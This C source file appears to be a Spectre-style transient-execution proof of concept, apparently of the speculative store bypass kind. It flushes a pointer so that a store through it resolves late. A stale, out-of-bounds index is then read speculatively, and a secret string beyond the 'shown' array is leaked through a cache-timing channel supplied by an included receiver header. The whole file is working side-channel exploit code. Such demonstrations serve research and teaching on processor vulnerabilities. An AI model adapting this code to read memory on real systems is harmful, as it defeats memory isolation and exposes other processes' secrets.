/* A store through a pointer that was flushed, in an array of pointers of which one matters; a load behind it. */
#include "receiver.h"

#define POINTERS 24
static const char shown[] = "Hello", hidden[] = "v4!";

int main(void) {
    size_t **pointers = malloc(POINTERS * sizeof *pointers);
    calibrate(1000);
    for (size_t at = 0; at < sizeof hidden - 1; at++) {
        size_t bad = (size_t)(hidden + at - shown);
        start();
        int found = NOTHING;
        for (unsigned round = 0; round < 60 && found == NOTHING; round++) {
            size_t good = round % 5, junk, offset;
            unsigned matters = 16 + round % (POINTERS - 16);
            forget();
            for (unsigned i = 0; i < POINTERS; i++) pointers[i] = &junk;
            pointers[matters] = &offset;
            for (unsigned i = 0; i <= matters; i++) {
                *(volatile size_t *)&offset = bad + (good - bad) * (i != matters);
                _mm_clflush(&pointers[i]);
                _mm_mfence();
                _mm_lfence();
                *((volatile size_t **)pointers)[i] = good;
                touch(line((uint8_t)shown[*(volatile size_t *)&offset]));
            }
            look(shown[good]);
            found = best(3);
        }
        putchar(found);
    }
    putchar('\n');
    return 0;
}
